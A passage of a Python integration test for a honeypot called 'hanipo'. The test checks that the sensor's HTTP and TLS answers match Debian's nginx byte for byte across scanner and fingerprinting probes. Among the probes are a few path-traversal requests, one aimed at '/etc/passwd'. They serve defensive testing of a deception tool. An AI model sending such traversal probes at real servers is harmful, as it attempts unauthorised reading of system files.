        ("fragment", b"GET /a#/../../x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        ("query-traversal", b"GET /?file=../../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
    ] + [("gzip " + n, b"%s HTTP/1.%d\r\nHost: x\r\n%sConnection: close\r\n\r\n" % (line, minor, h))
         for n, line, minor, h in (
             # what Go's net/http, python-requests, curl --compressed and browsers send
             ("go", b"GET /", 1, b"Accept-Encoding: gzip\r\n"),
             ("requests", b"GET /", 1, b"Accept-Encoding: gzip, deflate\r\n"),
             ("browser", b"GET /", 1, b"Accept-Encoding: gzip, deflate, br, zstd\r\n"),
             ("404", b"GET /nosuchpage.php", 1, b"Accept-Encoding: gzip\r\n"),
             ("post-404", b"POST /x.php", 1, b"Accept-Encoding: gzip\r\nContent-Length: 0\r\n"),
             ("post-405", b"POST /", 1, b"Accept-Encoding: gzip\r\nContent-Length: 0\r\n"),
             ("head", b"HEAD /", 1, b"Accept-Encoding: gzip\r\n"),
             ("range", b"GET /", 1, b"Accept-Encoding: gzip\r\nRange: bytes=0-9\r\n"),
             ("http10", b"GET /", 0, b"Accept-Encoding: gzip\r\n"),
             ("q0", b"GET /", 1, b"Accept-Encoding: gzip;q=0\r\n"),
             ("q-small", b"GET /", 1, b"Accept-Encoding: br;q=1.0, gzip ;q=0.001\r\n"),
             ("upper", b"GET /", 1, b"Accept-Encoding: GZIP\r\n"),
             ("x-gzip", b"GET /", 1, b"Accept-Encoding: x-gzip\r\n"),
             ("gzipx", b"GET /", 1, b"Accept-Encoding: gzipx\r\n"),
             ("via", b"GET /", 1, b"Accept-Encoding: gzip\r\nVia: 1.1 proxy\r\n"),
             ("two-headers", b"GET /", 1, b"Accept-Encoding: deflate\r\nAccept-Encoding: gzip\r\n"),
             ("traversal", b"GET /../x", 1, b"Accept-Encoding: gzip\r\n"))] + [("range " + r.decode(), b"GET / HTTP/1.1\r\nHost: x\r\nRange: " + r + b"\r\nConnection: close\r\n\r\n")
         for r in (b"bytes=0-1", b"bytes=-5", b"bytes=600-", b"bytes=100000-", b"bytes=5-2", b"items=0-1",
                   b"bytes=0-1,5-6", b"bytes=0-0,-1", b"bytes=0-,5-0,5-1,5-2,5-3", b"bytes= 3 - 4 ",
                   b"bytes=1-2,x", b"bytes=-0", b"bytes=99999999999999999999-")] + [
        ("head-range", b"HEAD / HTTP/1.1\r\nHost: x\r\nRange: bytes=10-19\r\nConnection: close\r\n\r\n"),
        ("range-1.0", b"GET / HTTP/1.0\r\nRange: bytes=0-3\r\n\r\n"),
        ("range-missing", b"GET /nope HTTP/1.1\r\nHost: x\r\nRange: bytes=0-3\r\nConnection: close\r\n\r\n"),
    ]


def _refused_body_shape(port):
    """Declare a body beyond every limit, send 4 MiB of it (the answer comes after the head),
    then half-close: whether every send went through, the status line, whether it closed."""
    s = connect(port)
    s.sendall(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 90000000\r\n\r\n")
    sent = True
    try:
        for _ in range(64):
            s.sendall(b"a" * 65536)
    except OSError:
        sent = False
    try:
        s.shutdown(socket.SHUT_WR)
    except OSError:
        pass
    try:
        out, closed = recv_until_eof(s, timeout=T(8)), True
    except socket.timeout:
        out, closed = b"", False
    s.close()
    return sent, out.split(b"\r\n", 1)[0], closed


def _validator_probes(etag, lm):
    """Revalidation with the validators the server itself gave (ETag, Last-Modified)."""
    req = lambda h: b"GET / HTTP/1.1\r\nHost: x\r\n" + h + b"Connection: close\r\n\r\n"
    return [
        ("inm", req(b"If-None-Match: " + etag + b"\r\n")),
        ("inm-weak", req(b"If-None-Match: W/" + etag + b"\r\n")),
        ("inm-list", req(b'If-None-Match: "x", ' + etag + b"\r\n")),
        ("inm-star", req(b"If-None-Match: *\r\n")),
        ("inm-other", req(b'If-None-Match: "other"\r\n')),
        ("ims", req(b"If-Modified-Since: " + lm + b"\r\n")),
        ("ims-old", req(b"If-Modified-Since: Mon, 01 Jan 1990 00:00:00 GMT\r\n")),
        ("ims-and-inm-other", req(b"If-Modified-Since: " + lm + b'\r\nIf-None-Match: "other"\r\n')),
        ("if-match-other", req(b'If-Match: "nope"\r\n')),
        ("if-match", req(b"If-Match: " + etag + b"\r\n")),
        ("ius-old", req(b"If-Unmodified-Since: Mon, 01 Jan 1990 00:00:00 GMT\r\n")),
        ("if-range-etag", req(b"If-Range: " + etag + b"\r\nRange: bytes=0-9\r\n")),
        ("if-range-other", req(b'If-Range: "other"\r\nRange: bytes=0-9\r\n')),
        ("if-range-date", req(b"If-Range: " + lm + b"\r\nRange: bytes=0-9\r\n")),
        ("inm-gzip", req(b"If-None-Match: " + etag + b"\r\nAccept-Encoding: gzip\r\n")),
        ("inm-weak-gzip", req(b"If-None-Match: W/" + etag + b"\r\nAccept-Encoding: gzip\r\n")),
    ]


def _validators(port):
    head = _exchange(port, b"HEAD / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    etag = re.search(rb"^ETag: (.*)\r$", head, re.M)
    lm = re.search(rb"^Last-Modified: (.*)\r$", head, re.M)
    assert etag and lm, head
    return etag.group(1), lm.group(1)


def _exchange(port, data):
    s = connect(port)
    s.sendall(data)
    try:
        s.shutdown(socket.SHUT_WR)
    except OSError:
        pass
    out = recv_until_eof(s, timeout=T(5))
    s.close()
    return out


def _shape(reply):
    """What a fingerprinting tool compares: the status line, the header names in order, the values
    of those that do not vary from minute to minute, and the body.  Interim answers (100 Continue)
    come before the status line, joined by " + "."""
    interim = b""
    while re.match(rb"HTTP/1\.[01] 1\d\d ", reply) and b"\r\n\r\n" in reply:
        line, _, reply = reply.partition(b"\r\n\r\n")
        interim += line + b" + "
    head, _, body = reply.partition(b"\r\n\r\n")
    if not head.startswith(b"HTTP/"):
        return ("no head", interim + reply)
    lines = head.split(b"\r\n")
    lines[0] = interim + lines[0]
    hdrs = []
    for l in lines[1:]:
        name, _, value = l.partition(b":")
        value = value.strip()
        if name.lower() in (b"date", b"last-modified", b"etag"):
            value = b"*"
        hdrs.append((name, value))
    return (lines[0], hdrs, body)


@case
def http_answers_as_nginx_does(ctx):
    """The default web service against Debian's nginx (the product it claims to be, same version in
    the Server header, its packaged default site: the page is /index.nginx-debian.html, gzip on) on
    the probes scanners and fingerprinting tools send: the same status line,
    the same headers in the same order, the same bytes of error pages, for every probe; the welcome
    page's ETag has nginx's form and is the sensor's own.  Over TLS (nginx with Debian's shipped TLS
    settings): the same protocol, cipher, alert, ALPN and ticket lifetime for every ClientHello
    variation."""
    need("nginx")
    import tempfile
    ver = subprocess.run(["nginx", "-v"], capture_output=True).stderr.decode().strip().split("/")[-1].split()[0]
    server = "nginx/" + ver
    tmp = tempfile.mkdtemp(prefix="hanipo-it-nginxref-")
    os.chmod(tmp, 0o755)
    www = os.path.join(tmp, "www")
    os.mkdir(www)
    # Debian's default site: the page is index.nginx-debian.html, there is no index.html
    page = os.path.join(www, "index.nginx-debian.html")
    shutil.copy(os.path.join(HERE, "..", "..", "data", "http", "files", "nginx-index.html"), page)
    os.chmod(page, 0o644)
    nport, tport = free_port(), free_port()
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-subj", "/CN=ref",
                    "-keyout", os.path.join(tmp, "key.pem"), "-out", os.path.join(tmp, "cert.pem")],
                   capture_output=True, check=True)
    conf = os.path.join(tmp, "nginx.conf")
    with open(conf, "w") as f:
        # the TLS and gzip lines are those of Debian's shipped /etc/nginx/nginx.conf
        f.write("worker_processes 1; daemon off; pid %(d)s/nginx.pid; error_log %(d)s/error.log;\n"
                "events { worker_connections 64; }\n"
                "http { include /etc/nginx/mime.types; default_type application/octet-stream;\n"
                "  access_log off; client_body_temp_path %(d)s; gzip on;\n"
                "  ssl_protocols TLSv1 TLSv1.1 TLSv1.2 TLSv1.3; ssl_prefer_server_ciphers on;\n"
                "  server { listen 127.0.0.1:%(p)d; listen 127.0.0.1:%(t)d ssl; root %(d)s/www;\n"
                "           index index.html index.htm index.nginx-debian.html;\n"
                "           location / { try_files $uri $uri/ =404; }\n"
                "           ssl_certificate %(d)s/cert.pem; ssl_certificate_key %(d)s/key.pem; } }\n"
                % {"d": tmp, "p": nport, "t": tport})
    ng = subprocess.Popen(["nginx", "-c", conf, "-e", os.path.join(tmp, "error.log")],
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_for(lambda: can_connect(nport), T(10), what="nginx listening")
        d = web_daemon(ctx, "http-as-nginx", server=server)
        hport = d.svc("web").port
        diffs = []
        for name, data in _nginx_probes():
            want, got = _shape(_exchange(nport, data)), _shape(_exchange(hport, data))
            if want != got:
                diffs.append("%s:\n  nginx:  %r\n  hanipo: %r" % (name, want[:2], got[:2]) if want[:2] != got[:2]
                             else "%s: bodies differ\n  nginx:  %r\n  hanipo: %r" % (name, want[2][:300], got[2][:300]))
        assert not diffs, "\n".join(diffs)
        pn, ph = _validator_probes(*_validators(nport)), _validator_probes(*_validators(hport))
        for (name, dn), (_, dh) in zip(pn, ph):
            want, got = _shape(_exchange(nport, dn)), _shape(_exchange(hport, dh))
            if want != got:
                diffs.append("%s:\n  nginx:  %r\n  hanipo: %r" % (name, want, got))
        assert not diffs, "\n".join(diffs)
        # a body over the limit that keeps coming after the 413: read and dropped (lingering
        # close), so the client's sends do not fail and the answer is not lost to a reset
        want, got = _refused_body_shape(nport), _refused_body_shape(hport)
        assert want == got, "413 with the body still coming:\n  nginx:  %r\n  hanipo: %r" % (want, got)
        etag = re.search(rb"^ETag: (.*)\r$", _exchange(hport, _nginx_probes()[0][1]), re.M)
        assert etag and re.match(rb'^"[0-9a-f]{8}-267"$', etag.group(1)), etag
        # TLS (on the same port for hanipo): what an active fingerprint (JARM) asks, the same choices
        tdiffs = []
        for opts in _tls_probes():
            want, got = _tls_shape(tport, opts), _tls_shape(hport, opts)
            if want != got:
                tdiffs.append("%s:\n  nginx:  %s\n  hanipo: %s" % (" ".join(opts), want, got))
        assert not tdiffs, "\n".join(tdiffs)
        # the ServerHello itself (JA3S: version, cipher, extensions in order; the session ID's
        # length) and the TLS 1.2 ticket's size, for the ClientHellos of s_client and curl
        for opts in _tls_hello_probes():
            want, got = _tls_hello_shape(tport, opts), _tls_hello_shape(hport, opts)
            if want != got:
                tdiffs.append("%s:\n  nginx:  %s\n  hanipo: %s" % (" ".join(opts), want, got))
        assert not tdiffs, "\n".join(tdiffs)
        # odd first flights, raw: the same alert (or HTTP answer, or silence) from both
        for name, data in _tls_raw_probes():
            want, got = _tls_raw_shape(tport, data), _tls_raw_shape(hport, data)
            if want != got:
                tdiffs.append("%s:\n  nginx:  %r\n  hanipo: %r" % (name, want, got))
        assert not tdiffs, "\n".join(tdiffs)
        evs = stop_and_read(d)
        # an SSLv2-format hello has no tls.client_hello: its bytes are in tls.failed
        v2 = [e for e in evs if e["eventid"] == "tls.failed" and "raw_b64" in e]
        assert any(base64.b64decode(e["raw_b64"]) == _tls_raw_probes()[0][1] for e in v2), v2
    finally:
        ng.terminate()
        ng.wait()
        shutil.rmtree(tmp, ignore_errors=True)


def _tls_probes():
    """openssl s_client options: protocol versions, cipher offers in both orders, weak and old
    suites, curves, signature algorithms and ALPN, as active TLS fingerprinting varies them."""
    low = "@SECLEVEL=0"
    return [["-tls1_2"], ["-tls1_3"], ["-tls1_1"], ["-tls1"], ["-tls1_1", "-cipher", "ALL:" + low],
            ["-tls1", "-cipher", "ALL:" + low], ["-tls1_2", "-cipher", "ALL:" + low],
            ["-tls1_2", "-cipher", "AES128-SHA:ECDHE-RSA-AES256-GCM-SHA384"],
            ["-tls1_2", "-cipher", "ECDHE-RSA-AES128-SHA256:ECDHE-RSA-CHACHA20-POLY1305"],
            ["-tls1_2", "-cipher", "AES256-SHA256:AES128-GCM-SHA256"],
            ["-tls1_2", "-cipher", "ARIA128-GCM-SHA256:AES128-SHA"],
            ["-tls1_2", "-cipher", "CAMELLIA128-SHA"],
            ["-tls1_2", "-cipher", "DES-CBC3-SHA:" + low], ["-tls1_2", "-cipher", "DHE-RSA-AES128-SHA:" + low],
            ["-tls1_2", "-cipher", "ECDHE-RSA-AES128-SHA:" + low],
            ["-tls1_2", "-cipher", "AES128-SHA:" + low, "-sigalgs", "RSA+SHA1"],
            ["-tls1_3", "-ciphersuites", "TLS_AES_128_GCM_SHA256:TLS_CHACHA20_POLY1305_SHA256"],
            ["-tls1_2", "-curves", "secp384r1"], ["-tls1_3", "-curves", "P-521"],
            ["-alpn", "h2,http/1.1"], ["-tls1_2", "-alpn", "http/1.1"]]


def _tls_hello_probes():
    """s_client options whose ServerHello nginx shapes: SNI (acknowledged, any name), ALPN
    nginx has no protocol for (a fatal alert), HTTP/1.0 by ALPN, no ticket (a session ID)."""
    return [["-tls1_2"], ["-tls1_2", "-servername", "unknown.example"], ["-servername", "x.example"],
            ["-tls1_2", "-alpn", "h2"], ["-alpn", "spdy/3"], ["-tls1_2", "-alpn", "http/1.0"],
            ["-tls1_2", "-no_ticket"], ["-tls1_2", "-cipher", "AES128-SHA", "-servername", "a.example"]]


def _tls_hello_shape(port, opts):
    """From s_client -msg: each ServerHello's version, cipher, session ID length and extension
    types in order (EncryptedExtensions' types under TLS 1.3), a TLS 1.2 ticket's length, the
    alert."""
    r = subprocess.run(["openssl", "s_client", "-connect", "127.0.0.1:%d" % port, "-msg"] + opts, input=b"",
                       capture_output=True, timeout=T(15))
    lines = r.stdout.decode(errors="replace").splitlines()
    out = []
    for i, l in enumerate(lines):
        m = re.match(r"<<< (TLS [0-9.]+), Handshake \[length [0-9a-f]+\], (\w+)", l)
        a = re.match(r"<<< TLS [0-9.]+, Alert \[length [0-9a-f]+\], (.*)", l)
        if a:
            out.append("alert " + a.group(1))
        if not m:
            continue
        hexs = ""
        for h in lines[i + 1:]:
            if not re.match(r"^\s+[0-9a-f]{2}( [0-9a-f]{2})*\s*$", h):
                break
            hexs += h.replace(" ", "")
        b = bytes.fromhex(hexs)
        if m.group(2) == "ServerHello":
            p = 39 + b[38]
            head, p = "SH %s sid%d %s" % (b[4:6].hex(), b[38], b[p:p + 2].hex()), p + 3
            out.append(head + " " + ",".join(map(str, _tls_ext_types(b, p))))
        elif m.group(2) == "EncryptedExtensions":
            out.append("EE " + ",".join(map(str, _tls_ext_types(b, 4))))
        elif m.group(2) == "NewSessionTicket" and m.group(1) == "TLS 1.2":
            out.append("ticket %d" % len(b))
    return out


def _tls_ext_types(b, p):
    """The extension types of a handshake message whose extensions block starts at p."""
    types = []
    if p + 2 > len(b):
        return types
    end = p + 2 + int.from_bytes(b[p:p + 2], "big")
    p += 2
    while p + 4 <= end:
        types.append(int.from_bytes(b[p:p + 2], "big"))
        p += 4 + int.from_bytes(b[p + 2:p + 4], "big")
    return types


def _tls_raw_probes():
    """First flights no TLS library sends: SSLv2-format ClientHellos (sslscan, nmap, testssl),
    SSLv3, no common cipher, records that are not a ClientHello."""
    rnd = bytes(range(16))
    def hello(ver, ciphers, rv=0x0301):
        cs = b"".join(c.to_bytes(2, "big") for c in ciphers)
        body = ver.to_bytes(2, "big") + bytes(32) + b"\x00" + len(cs).to_bytes(2, "big") + cs + b"\x01\x00\x00\x00"
        msg = b"\x01" + len(body).to_bytes(3, "big") + body
        return b"\x16" + rv.to_bytes(2, "big") + len(msg).to_bytes(2, "big") + msg
    def v2hello(ver, specs):
        body = b"\x01" + ver.to_bytes(2, "big") + (3 * len(specs)).to_bytes(2, "big") + b"\x00\x00\x00\x10"
        body += b"".join(c.to_bytes(3, "big") for c in specs) + rnd
        return (0x8000 | len(body)).to_bytes(2, "big") + body
    return [("sslv2-hello-tls10", v2hello(0x0301, (0x35, 0x2f, 0x0a))),
            ("sslv2-hello-tls12", v2hello(0x0303, (0x35, 0x2f, 0x0a))),
            ("sslv2-hello-sslv2", v2hello(0x0002, (0x010080, 0x020080))),
            ("sslv3", hello(0x0300, (0x0035, 0x002f), 0x0300)),
            ("no-common-cipher", hello(0x0303, (0x0004, 0x0005))),
            ("tls10-rsa-only", hello(0x0301, (0x0035, 0x002f))),
            ("alert-first", b"\x15\x03\x01\x00\x02\x02\x28"),
            ("ccs-first", b"\x14\x03\x01\x00\x01\x01")]


def _tls_raw_shape(port, data):
    """The reply bytes (an HTTP answer as its _shape) and whether the server closed."""
    s = connect(port)
    s.sendall(data)
    try:
        out, closed = recv_until_eof(s, timeout=T(3)), True
    except socket.timeout:
        out, closed = b"", False
    s.close()
    return (_shape(out) if out.startswith(b"HTTP/") else out, closed)


def _tls_shape(port, opts):
    """What s_client reports of a handshake: the protocol and cipher, the alert, the ALPN answer
    and (TLS 1.2) the session ticket's lifetime hint."""
    r = subprocess.run(["openssl", "s_client", "-connect", "127.0.0.1:%d" % port] + opts, input=b"",
                       capture_output=True, timeout=T(15))
    out = (r.stdout + r.stderr).decode(errors="replace")
    keep = []
    for l in out.splitlines():
        l = l.strip()
        if l.startswith("New,") or "ALPN" in l or (l.startswith("TLS session ticket lifetime") and "-tls1_2" in opts):
            keep.append(l)
        m = re.search(r"alert [a-z ]+", l)
        if m:
            keep.append(m.group(0))
    return sorted(set(keep))


